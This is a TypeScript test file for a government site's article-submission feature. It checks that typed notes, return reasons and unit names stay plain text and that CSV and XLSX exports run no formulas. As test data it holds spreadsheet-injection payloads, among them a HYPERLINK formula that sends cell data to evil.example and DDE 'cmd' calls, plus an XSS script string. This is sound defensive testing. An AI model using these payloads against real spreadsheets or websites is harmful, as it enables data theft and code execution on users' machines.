import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { load } from 'cheerio'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { systemActor } from '../../src/content/index.ts'
import { adoptionReportCsv } from '../../src/submissions/index.ts'
import { type AdminServer, type ApiResponse, useAdminServer } from '../support/admin-server.ts'
import { engines } from '../support/engines.ts'
import { hostileText } from '../support/hostile-bodies.ts'
import { pageScriptHazards, xssVectors } from '../support/script-hazards.ts'
import { unzip } from '../support/unzip.ts'

const operator = systemActor('cli:test')

/** What a spreadsheet runs as a formula when a cell starts with it (OWASP's CSV injection list). */
const FORMULA_START = /^[=+\-@\t\r]/

// Unit names as a site administrator could type them, each a formula in Excel or LibreOffice.
const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '=1+1,"逗号"\n=2+2',
]

/** RFC 4180 as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let isQuoted = false
  const input = text.replace(/^\uFEFF/, '')
  for (let i = 0; i < input.length; i++) {
    const char = input.charAt(i)
    if (isQuoted) {
      if (char === '"' && input[i + 1] === '"') {
        cell += '"'
        i++
      } else if (char === '"') isQuoted = false
      else cell += char
    } else if (char === '"') isQuoted = true
    else if (char === ',') {
      row.push(cell)
      cell = ''
    } else if (char === '\r' && input[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += char
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell])
  return rows
}

/** An xlsx as a spreadsheet opens it: its formulas, and the text of its string cells. */
async function workbook(bytes: Buffer) {
  const files = await unzip(bytes)
  const sheets = [...files].filter(([name]) => name.startsWith('xl/worksheets/'))
  const formulas = sheets.flatMap(([, xml]) => load(xml, { xml: true })('f').toArray())
  const texts = [
    ...load(files.get('xl/sharedStrings.xml') ?? '', { xml: true })('si')
      .toArray()
      .map((item) => load(item, { xml: true }).text()),
    ...sheets.flatMap(([, xml]) =>
      load(xml, { xml: true })('is')
        .toArray()
        .map((item) => load(item, { xml: true }).text()),
    ),
  ]
  return { formulas, texts }
}

function expectJsonAnswer(response: ApiResponse): void {
  expect(response.headers.get('content-type')).toMatch(/^application\/json/)
  expect(response.headers.get('x-content-type-options')).toBe('nosniff')
}

/** The year in which the receiving site (Asia/Shanghai) counts an adoption made now. */
const thisYear = () =>
  Number(new Intl.DateTimeFormat('sv-SE', { timeZone: 'Asia/Shanghai' }).format(new Date()).slice(0, 4))

async function cityAndUnits(t: AdminServer, unitNames: readonly string[]) {
  const city = await t.content.sites.create(operator, {
    slug: 'city',
    name: '市政府',
    baseUrl: 'https://city.example.gov.cn',
  })
  const news = await t.content.columns.create(operator, { siteId: city.id, name: '要闻', slug: 'yw' })
  const units = []
  for (const [index, name] of unitNames.entries()) {
    const site = await t.content.sites.create(operator, {
      slug: `unit${index}`,
      name,
      baseUrl: `https://unit${index}.example.gov.cn`,
    })
    const column = await t.content.columns.create(operator, { siteId: site.id, name: '动态', slug: 'dt' })
    const article = await t.content.articles.create(operator, {
      columnId: column.id,
      title: `报送的文章${index}`,
      bodyHtml: '<p>正文</p>',
    })
    units.push({ site, article })
  }
  await t.addUser('cityadmin', [{ role: 'site_admin', siteId: city.id }])
  await t.addUser('cityeditor', [{ role: 'editor', siteId: city.id }])
  await t.addUser(
    'uniteditor',
    units.map((unit) => ({ role: 'editor', siteId: unit.site.id })),
  )
  await t.addUser('auditor', [{ role: 'audit_admin' }])
  const cityAdmin = await t.signedIn('cityadmin')
  const opened = await cityAdmin.put(`/api/columns/${news.id}/submission-sources`, {
    siteIds: units.map((unit) => unit.site.id),
  })
  expect(opened.status, JSON.stringify(opened.body)).toBe(200)
  return {
    city,
    news,
    units,
    cityAdmin,
    cityEditor: await t.signedIn('cityeditor'),
    unitEditor: await t.signedIn('uniteditor'),
    auditor: await t.signedIn('auditor'),
  }
}

/** Every cell of a CSV export, none of which a spreadsheet may run. */
function expectNoFormula(csv: string): string[][] {
  const rows = parseCsv(csv)
  for (const cell of rows.flat()) expect(cell, cell).not.toMatch(FORMULA_START)
  return rows
}

// The shared vectors that fit in a note (500 characters), every one of the short ones.
const NOTE_VECTORS = xssVectors.map((vector) => vector.input.trim()).filter((input) => input.length <= 500)
const note = fc.oneof(fc.constantFrom(...NOTE_VECTORS), hostileText, fc.constantFrom(...FORMULA_NAMES))

for (const engine of engines()) {
  describe(`${engine.name}: script and formulas in what units and editors type for 信息报送`, () => {
    const t = useAdminServer(engine)

    it('keeps a note and a return reason as the text typed in every answer, the audit and its CSV, and off the published page', {
      timeout: 180_000,
    }, async () => {
      const g = await cityAndUnits(t, ['县政府'])
      const unit = g.units[0] as (typeof g.units)[number]
      const send = (text: string) =>
        g.unitEditor.post('/api/submissions', { articleId: unit.article.id, columnId: g.news.id, note: text })
      await fc.assert(
        fc.asyncProperty(note, note, async (noteText, reasonText) => {
          const sent = await send(noteText)
          expectJsonAnswer(sent)
          // PostgreSQL cannot hold NUL: refused everywhere, naming the field.
          if (noteText.includes('\u0000')) {
            expect(sent.status, JSON.stringify(sent.body)).toBe(422)
            expect(sent.body.error.field).toBe('note')
            return
          }
          expect(sent.status, JSON.stringify(sent.body)).toBe(201)
          expect(sent.body.note).toBe(noteText.trim())
          const inbox = await g.cityEditor.get('/api/sites/city/submissions/inbox?status=pending')
          expectJsonAnswer(inbox)
          expect(inbox.body.map((item: { note: string }) => item.note)).toEqual([noteText.trim()])

          const returned = await g.cityEditor.post(`/api/submissions/${sent.body.id}/return`, {
            reason: reasonText,
          })
          expectJsonAnswer(returned)
          const reason = reasonText.trim()
          if (reasonText.includes('\u0000') || reason === '') {
            expect(returned.status, JSON.stringify(returned.body)).toBe(422)
            // Returned with a plain reason, so the next run may submit again.
            await g.cityEditor.post(`/api/submissions/${sent.body.id}/return`, { reason: '不采用' })
            return
          }
          expect(returned.status, JSON.stringify(returned.body)).toBe(200)
          expect(returned.body.reason).toBe(reason)
          const outbox = await g.unitEditor.get(`/api/sites/${unit.site.id}/submissions/outbox`)
          expectJsonAnswer(outbox)
          expect(outbox.body[0]).toMatchObject({ status: 'returned', reason, note: noteText.trim() })
        }),
        { numRuns: 40, endOnFailure: true },
      )

      // The audit holds them as data, and its CSV export runs none of them.
      const audit = await g.auditor.get('/api/audit?action=submission.return&limit=1000')
      expectJsonAnswer(audit)
      const csv = await g.auditor.get('/api/audit/export.csv?limit=1000')
      expect(csv.headers.get('content-type')).toMatch(/^text\/csv/)
      const rows = expectNoFormula(csv.body as string)
      const detail = (rows[0] ?? []).indexOf('detail')
      for (const row of rows.slice(1))
        expect(() => JSON.parse(row[detail] ?? ''), row.join(',')).not.toThrow()

      // Adopted and published, the article shows neither the note nor any script.
      const marker = 'NOTE-MARKER'
      const last = await send(`${marker}<script>alert(document.domain)</script>`)
      expect(last.status, JSON.stringify(last.body)).toBe(201)
      const adoption = await g.cityEditor.post(`/api/submissions/${last.body.id}/adopt`, {})
      expect(adoption.status, JSON.stringify(adoption.body)).toBe(200)
      expect((await g.cityAdmin.post(`/api/articles/${adoption.body.article.id}/publish`)).status).toBe(200)
      await t.publisher.publish({ site: 'city' })
      const { urlPath } = await t.content.articles.get(adoption.body.article.id)
      const page = await readFile(join(t.output, 'sites', 'city', urlPath ?? ''), 'utf8')
      expect(pageScriptHazards(page, '/assets/')).toEqual([])
      expect(page).not.toContain(marker)
    })

    it('keeps unit names that start like a formula from running in the adoption and statistics exports', {
      timeout: 120_000,
    }, async () => {
      const g = await cityAndUnits(t, FORMULA_NAMES)
      for (const unit of g.units) {
        const sent = await g.unitEditor.post('/api/submissions', {
          articleId: unit.article.id,
          columnId: g.news.id,
        })
        expect(sent.status, JSON.stringify(sent.body)).toBe(201)
        const adopted = await g.cityEditor.post(`/api/submissions/${sent.body.id}/adopt`, {})
        expect(adopted.status, JSON.stringify(adopted.body)).toBe(200)
      }
      const year = thisYear()
      const names = FORMULA_NAMES.map((name) => name.trim())

      const csv = await g.cityEditor.get(`/api/sites/city/adoption-report/export?year=${year}&format=csv`)
      expect(csv.status).toBe(200)
      const units = expectNoFormula(csv.body as string)
        .slice(1, -1)
        .map((row) => row[0])
      expect(units.sort()).toEqual(names.map((name) => `'${name}`).sort())

      const xlsx = await g.cityEditor.bytes(`/api/sites/city/adoption-report/export?year=${year}&format=xlsx`)
      expect(xlsx.status).toBe(200)
      const book = await workbook(xlsx.bytes)
      expect(book.formulas).toEqual([])
      for (const name of names) expect(book.texts).toContain(name)

      const statistics = await g.cityAdmin.get(
        `/api/sites/${g.city.id}/statistics/export/csv?preset=this-year`,
      )
      expect(statistics.status, String(statistics.body)).toBe(200)
      const cells = expectNoFormula(statistics.body as string).flat()
      for (const name of names) expect(cells).toContain(`'${name}`)
      const statisticsXlsx = await g.cityAdmin.bytes(
        `/api/sites/${g.city.id}/statistics/export/xlsx?preset=this-year`,
      )
      expect(statisticsXlsx.status).toBe(200)
      const statisticsBook = await workbook(statisticsXlsx.bytes)
      expect(statisticsBook.formulas).toEqual([])
      for (const name of names) expect(statisticsBook.texts).toContain(name)
    })
  })
}

describe('the adoption report as CSV', () => {
  it('gives back every unit name as typed, led by an apostrophe exactly when it starts like a formula', () => {
    const unitName = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 40 }),
      hostileText,
      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '"', ','), fc.string()).map(([a, b]) => a + b),
    )
    fc.assert(
      fc.property(fc.array(unitName, { minLength: 1, maxLength: 5 }), (names) => {
        const report = {
          siteId: 1,
          siteName: '市政府',
          year: 2026,
          units: names.map((name, index) => ({
            sourceSiteId: index + 1,
            sourceSiteName: name,
            perMonth: new Array(12).fill(1),
            total: 12,
          })),
          perMonth: new Array(12).fill(names.length),
          total: 12 * names.length,
        }
        const rows = parseCsv(adoptionReportCsv(report))
        expect(rows).toHaveLength(names.length + 2)
        for (const [index, name] of names.entries()) {
          const row = rows[index + 1] ?? []
          expect(row).toHaveLength(14)
          expect(row[0]).toBe(FORMULA_START.test(name) ? `'${name}` : name)
          expect(row.slice(1)).toEqual([...new Array(12).fill('1'), '12'])
        }
        for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START)
      }),
      { numRuns: 300 },
    )
  })
})
